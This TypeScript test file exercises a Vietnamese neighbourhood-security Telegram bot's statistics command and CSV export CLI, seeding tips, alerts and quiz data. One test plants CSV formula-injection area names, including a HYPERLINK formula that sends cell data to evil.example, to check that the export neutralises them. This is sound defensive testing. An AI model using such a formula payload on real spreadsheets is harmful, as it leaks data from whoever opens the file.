/**
 * Issue 5, end to end: `/thongke` and `npm run stats` against tips, alerts, acknowledgements, quiz
 * answers and campaign deliveries seeded with Prisma (the tips feature is written separately), with
 * the period's edges on local (Asia/Ho_Chi_Minh) days and other areas left out.
 */
import { spawn } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db } from "../../src/db/client.js";
import type { FakeUserInput } from "../../src/sandbox/fake-telegram/types.js";
import { startHarness, SUPERADMIN, type Harness } from "../support/harness.js";
import { createAreas, grantRole, registerGroup, say } from "../support/chat-steps.js";

const officer: FakeUserInput = { id: 7_300_000_001, first_name: "Hùng", language_code: "vi" };
const resident: FakeUserInput = { id: 7_300_000_002, first_name: "Mai", language_code: "vi" };
const G5 = -100_905;
const G6 = -100_906;
const GWARD = -100_907;
const GOTHER = -100_908;
const GGONE = -100_909;

let h: Harness;
let seq = 0;
const at = (iso: string) => new Date(iso);
const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000);

async function ids(db: Db) {
  const area = async (code: string) => (await db.area.findUniqueOrThrow({ where: { code } })).id;
  const chat = async (id: number) =>
    (
      await db.chat.findUniqueOrThrow({
        where: { platform_platformChatId: { platform: "telegram", platformChatId: String(id) } },
      })
    ).id;
  const user = (n: number) =>
    db.user.upsert({
      where: { platform_platformUserId: { platform: "telegram", platformUserId: `9${n}` } },
      create: { platform: "telegram", platformUserId: `9${n}`, displayName: `U${n}` },
      update: {},
    });
  return { area, chat, user };
}

async function tip(
  db: Db,
  input: {
    areaId: number;
    createdAt: Date;
    valuable?: boolean;
    closedAt?: Date;
    caseOpened?: boolean;
    peopleArrested?: number;
    assetsRecovered?: bigint;
  },
) {
  seq += 1;
  await db.tip.create({
    data: {
      code: `TG-TEST${seq}`,
      category: "khac",
      tipsterHash: "h",
      sourceKey: `test:${seq}`,
      handlingAreaId: input.areaId,
      status: input.closedAt ? "closed" : "received",
      ...input,
    },
  });
}

async function alert(
  db: Db,
  input: {
    areaId: number;
    issuedAt: Date;
    senderUserId: number;
    sentTo: number[];
    acks: { userId: number; chatId: number }[];
  },
) {
  seq += 1;
  const row = await db.alert.create({
    data: {
      areaId: input.areaId,
      senderUserId: input.senderUserId,
      level: "cao",
      text: "Thử",
      issuedAt: input.issuedAt,
      expiresAt: new Date(input.issuedAt.getTime() + 7_200_000),
      sourceKey: `test:${seq}`,
    },
  });
  for (const chatId of input.sentTo)
    await db.delivery.create({
      data: {
        key: `alert:${row.id}:to:${chatId}`,
        chatId,
        priority: 1,
        payload: {},
        status: "sent",
        sourceKind: "alert",
        sourceId: row.id,
        sentAt: input.issuedAt,
      },
    });
  for (const ack of input.acks) await db.alertAck.create({ data: { alertId: row.id, ...ack, at: input.issuedAt } });
}

async function round(db: Db, input: { chatId: number; when: Date; answers: { userId: number; correct: boolean }[] }) {
  seq += 1;
  const question = await db.quizQuestion.findFirstOrThrow({ where: { reviewed: true } });
  const row = await db.quizRound.create({
    data: {
      questionId: question.id,
      chatId: input.chatId,
      postedAt: input.when,
      closesAt: input.when,
      closedAt: input.when,
      sourceKey: `test:${seq}`,
    },
  });
  for (const a of input.answers)
    await db.quizAnswer.create({
      data: {
        roundId: row.id,
        userId: a.userId,
        chatId: input.chatId,
        option: a.correct ? question.correct : question.correct + 1,
        correct: a.correct,
        at: input.when,
      },
    });
}

beforeAll(async () => {
  h = await startHarness();
  h.fake.addPrivateChatUser(resident);
  await createAreas(h, [
    "phuly Thành phố Phủ Lý",
    "phuly.minhkhai Phường Minh Khai",
    "phuly.minhkhai.to5 Tổ dân phố 5",
    "phuly.minhkhai.to6 Tổ dân phố 6",
    "phuly.minhkhai.to7 Tổ dân phố 7",
    "phuly.lamha Phường Lam Hạ",
  ]);
  await grantRole(h, officer, "officer", "phuly.minhkhai");
  await registerGroup(h, G5, "Tổ 5", "phuly.minhkhai.to5");
  await registerGroup(h, G6, "Tổ 6", "phuly.minhkhai.to6");
  await registerGroup(h, GWARD, "Phường", "phuly.minhkhai");
  await registerGroup(h, GOTHER, "Lam Hạ", "phuly.lamha");
  await registerGroup(h, GGONE, "Nhóm đã rời", "phuly.minhkhai.to5");

  const db = h.app.db;
  const { area, chat, user } = await ids(db);
  const [to5, to6, ward, lamha] = [
    await area("phuly.minhkhai.to5"),
    await area("phuly.minhkhai.to6"),
    await area("phuly.minhkhai"),
    await area("phuly.lamha"),
  ];
  const [g5, g6, gother, ggone] = [await chat(G5), await chat(G6), await chat(GOTHER), await chat(GGONE)];
  await db.chat.update({ where: { id: ggone }, data: { active: false } });
  const [u1, u2, u3] = [await user(1), await user(2), await user(3)];
  const dm = await db.chat.create({ data: { platform: "telegram", platformChatId: "91", kind: "private" } });

  // Tips: received in October (local days), and outcomes recorded in October.
  await tip(db, {
    areaId: to5,
    createdAt: at("2026-10-05T03:00:00Z"),
    valuable: true,
    closedAt: at("2026-10-10T03:00:00Z"),
    caseOpened: true,
    peopleArrested: 2,
    assetsRecovered: 12_500_000n,
  });
  await tip(db, { areaId: ward, createdAt: at("2026-10-20T03:00:00Z"), closedAt: at("2026-10-25T03:00:00Z") });
  await tip(db, { areaId: to6, createdAt: at("2026-10-31T16:30:00Z"), valuable: true }); // 23:30 on 31/10 in Hà Nội: inside
  await tip(db, {
    areaId: to5,
    createdAt: at("2026-09-30T16:30:00Z"),
    closedAt: at("2026-10-02T03:00:00Z"),
    caseOpened: true,
    peopleArrested: 1,
    assetsRecovered: 500_000n,
  }); // received 30/09
  await tip(db, { areaId: to6, createdAt: at("2026-10-31T17:10:00Z"), valuable: true }); // 00:10 on 01/11: outside
  await tip(db, {
    areaId: lamha,
    createdAt: daysAgo(60),
    valuable: true,
    closedAt: daysAgo(59),
    caseOpened: true,
    peopleArrested: 5,
  });
  await tip(db, { areaId: lamha, createdAt: daysAgo(2), valuable: true });
  await tip(db, { areaId: lamha, createdAt: daysAgo(40) });

  // Alerts: two in October (three group deliveries, one group acknowledged by two people, one follower acknowledged).
  await alert(db, {
    areaId: ward,
    issuedAt: at("2026-10-15T03:00:00Z"),
    senderUserId: u1.id,
    sentTo: [g5, g6, dm.id],
    acks: [
      { userId: u1.id, chatId: g5 },
      { userId: u2.id, chatId: g5 },
      { userId: u3.id, chatId: dm.id },
    ],
  });
  await alert(db, { areaId: to6, issuedAt: at("2026-10-16T03:00:00Z"), senderUserId: u1.id, sentTo: [g6], acks: [] });
  await alert(db, {
    areaId: lamha,
    issuedAt: at("2026-10-16T03:00:00Z"),
    senderUserId: u1.id,
    sentTo: [gother],
    acks: [{ userId: u1.id, chatId: gother }],
  });
  await alert(db, {
    areaId: ward,
    issuedAt: at("2026-11-05T03:00:00Z"),
    senderUserId: u1.id,
    sentTo: [g5],
    acks: [{ userId: u1.id, chatId: g5 }],
  });

  // Quiz answers in the ward's groups, in a private chat and in another ward.
  await round(db, {
    chatId: g5,
    when: at("2026-10-12T03:00:00Z"),
    answers: [
      { userId: u1.id, correct: true },
      { userId: u2.id, correct: false },
      { userId: u3.id, correct: true },
    ],
  });
  await round(db, { chatId: g6, when: at("2026-10-13T03:00:00Z"), answers: [{ userId: u1.id, correct: true }] });
  await round(db, { chatId: dm.id, when: at("2026-10-13T03:00:00Z"), answers: [{ userId: u2.id, correct: true }] });
  await round(db, { chatId: gother, when: at("2026-10-13T03:00:00Z"), answers: [{ userId: u2.id, correct: true }] });

  // Campaign messages delivered in October.
  const campaign = await db.campaign.create({
    data: { title: "", text: "Thử", areaId: ward, createdById: u1.id, schedule: "once", status: "done" },
  });
  for (const chatId of [g5, g6]) {
    await db.delivery.create({
      data: {
        key: `campaign:${campaign.id}:1:${chatId}`,
        chatId,
        priority: 3,
        payload: {},
        status: "sent",
        sourceKind: "campaign",
        sourceId: campaign.id,
        sentAt: at("2026-10-20T03:00:00Z"),
      },
    });
  }
}, 120_000);

afterAll(async () => {
  await h?.stop();
});

describe("/thongke", () => {
  it("reports the ward's figures for the period, local days included at both ends", async () => {
    const report = (await say(h, officer.id, officer, "/thongke phuly.minhkhai 01/10/2026 2026-10-31", "THỐNG KÊ"))
      .plainText;
    expect(report).toContain("THỐNG KÊ AN NINH, TRẬT TỰ — Phường Minh Khai");
    expect(report).toContain("Từ 01/10/2026 đến 31/10/2026");
    expect(report).toContain("📮 Tin tố giác nhận được: 3 (có giá trị: 2)");
    expect(report).toContain("📁 Vụ việc đã lập hồ sơ: 2");
    expect(report).toContain("🚔 Số người bị bắt giữ: 3");
    expect(report).toContain("💰 Tài sản thu hồi: 13.000.000 đồng");
    expect(report).toContain("🔔 Số lần đánh kẻng: 2 · 3 lượt xác nhận");
    expect(report).toContain("✅ Tỷ lệ nhóm xác nhận: 33% (1/3 lượt nhóm nhận tin)");
    expect(report).toContain("❓ Câu hỏi pháp luật: 4 lượt trả lời của 3 người · đúng 75%");
    expect(report).toContain("📢 Tin tuyên truyền đã gửi tới nhóm: 2");
    expect(report).toContain("👥 Nhóm đang kết nối: 3 nhóm tại 3/4 khu vực");
    expect(report).toContain("• Tổ dân phố 5 (phuly.minhkhai.to5): 1 nhóm");
    expect(report).not.toContain("Tổ dân phố 7");
    // Reference data for the assessment, not the Circular's criteria (Thông tư 48/2025 amended it).
    expect(report).toContain("Số liệu tham khảo khi đánh giá «An toàn về an ninh, trật tự»; không phải tiêu chí");
    expect(report).toContain("Thông tư 48/2025/TT-BCA");
  });

  it("uses the officer's own area and the last 30 days by default", async () => {
    const day = (d: Date) =>
      new Intl.DateTimeFormat("en-GB", {
        timeZone: "Asia/Ho_Chi_Minh",
        day: "2-digit",
        month: "2-digit",
        year: "numeric",
      }).format(d);
    const report = (await say(h, officer.id, officer, "/stats", "THỐNG KÊ")).plainText;
    expect(report).toContain("— Phường Minh Khai");
    expect(report).toContain(`Từ ${day(daysAgo(29))} đến ${day(new Date())}`);
    const lamha = (await say(h, SUPERADMIN.id, SUPERADMIN, "/thongke phuly.lamha", "THỐNG KÊ")).plainText;
    expect(lamha).toContain("📮 Tin tố giác nhận được: 1 (có giá trị: 1)");
  });

  it("refuses residents and officers of other areas, and explains bad dates", async () => {
    expect((await say(h, resident.id, resident, "/thongke phuly.minhkhai", "Chỉ cán bộ")).plainText).toContain(
      "thống kê",
    );
    expect((await say(h, officer.id, officer, "/thongke phuly.lamha", "Chỉ cán bộ")).plainText).toContain("thống kê");
    expect((await say(h, officer.id, officer, "/thongke 31/02/2026", "Ngày không hợp lệ")).plainText).toContain(
      "01/11/2026",
    );
    expect(
      (await say(h, officer.id, officer, "/thongke 2026-11-30 2026-11-01", "trước ngày kết thúc")).plainText,
    ).toContain("❌");
    expect((await say(h, G5, officer, "/thongke", "nhắn riêng")).plainText).toContain("/thongke");
  });
});

function runCli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ["--import", "tsx", "src/cli/stats.ts", ...args], {
      env: { PATH: process.env.PATH ?? "", DATABASE_URL: h.databaseUrl, LOG_LEVEL: "silent" },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    child.on("error", reject);
    child.on("exit", (code) => resolve({ code, stdout, stderr }));
  });
}

describe("npm run stats", () => {
  it("writes CSV: the ward and each area directly below it", async () => {
    const { code, stdout, stderr } = await runCli([
      "--area",
      "phuly.minhkhai",
      "--from",
      "2026-10-01",
      "--to",
      "31/10/2026",
      "--csv",
    ]);
    expect(stderr).toBe("");
    expect(code).toBe(0);
    const [header, ...rows] = stdout
      .trim()
      .split("\r\n")
      .map((line) => line.split(","));
    const column = (row: string[] | undefined, name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(rows.map((r) => r[0])).toEqual([
      "phuly.minhkhai",
      "phuly.minhkhai.to5",
      "phuly.minhkhai.to6",
      "phuly.minhkhai.to7",
    ]);
    const ward = rows[0];
    expect(
      ["tips_received", "tips_valuable", "cases_opened", "people_arrested", "assets_recovered_vnd"].map((n) =>
        column(ward, n),
      ),
    ).toEqual(["3", "2", "2", "3", "13000000"]);
    expect(
      [
        "alerts_sent",
        "alert_groups_reached",
        "alert_groups_acknowledged",
        "alert_ack_rate",
        "alert_acknowledgements",
      ].map((n) => column(ward, n)),
    ).toEqual(["2", "3", "1", "0.3333", "3"]);
    expect(
      [
        "quiz_answers",
        "quiz_participants",
        "quiz_correct",
        "quiz_correct_rate",
        "campaign_messages",
        "groups_covered",
      ].map((n) => column(ward, n)),
    ).toEqual(["4", "3", "3", "0.7500", "2", "3"]);
    const to5 = rows[1];
    expect(
      ["tips_received", "cases_opened", "quiz_answers", "groups_covered", "from", "to"].map((n) => column(to5, n)),
    ).toEqual(["1", "2", "3", "1", "2026-10-01", "2026-10-31"]);
  }, 60_000);

  it("writes a UTF-8 BOM, and neutralises area names a spreadsheet would run as formulas", async () => {
    const db = h.app.db;
    const lamha = await db.area.findUniqueOrThrow({ where: { code: "phuly.lamha" } });
    const names = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Tổ 5")',
      "-Tổ 5",
      "+Tổ 6",
      "@SUM(1+1)",
      "\tTổ 8",
      "Tổ 9 = an toàn",
    ];
    for (const [i, name] of names.entries())
      await db.area.create({ data: { code: `phuly.lamha.x${i}`, name, parentId: lamha.id } });
    const { code, stdout } = await runCli([
      "--area",
      "phuly.lamha",
      "--from",
      "2026-10-01",
      "--to",
      "2026-10-31",
      "--csv",
    ]);
    expect(code).toBe(0);
    expect(stdout.startsWith("\uFEFFarea_code,area_name,")).toBe(true);
    const lines = stdout.slice(1).split("\r\n");
    expect(lines).toContain(
      `phuly.lamha.x0,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Tổ 5"")",2026-10-01,2026-10-31,0,0,0,0,0,0,0,0,,0,0,0,0,,0,0`,
    );
    expect(lines.find((l) => l.startsWith("phuly.lamha.x1,"))).toMatch(/^phuly\.lamha\.x1,'-Tổ 5,2026-10-01,/);
    expect(lines.find((l) => l.startsWith("phuly.lamha.x2,"))).toMatch(/^phuly\.lamha\.x2,'\+Tổ 6,/);
    expect(lines.find((l) => l.startsWith("phuly.lamha.x3,"))).toMatch(/^phuly\.lamha\.x3,'@SUM\(1\+1\),/);
    expect(lines.find((l) => l.startsWith("phuly.lamha.x4,"))).toMatch(/^phuly\.lamha\.x4,'\tTổ 8,/);
    expect(lines.find((l) => l.startsWith("phuly.lamha.x5,"))).toMatch(/^phuly\.lamha\.x5,Tổ 9 = an toàn,/);
    // No cell of any row starts a formula.
    for (const line of lines)
      expect(
        line.split(",").filter((cell) => /^"?[=+\-@]/.test(cell)),
        line,
      ).toEqual([]);
  }, 60_000);

  it("prints the report as text, and refuses an unknown area", async () => {
    const text = await runCli(["--area", "phuly.minhkhai", "--from", "01/10/2026", "--to", "31/10/2026"]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain("📮 Tin tố giác nhận được: 3 (có giá trị: 2)");
    expect(text.stdout).not.toContain("<b>");
    const unknown = await runCli(["--area", "hanoi"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("No area with code hanoi");
  }, 60_000);
});
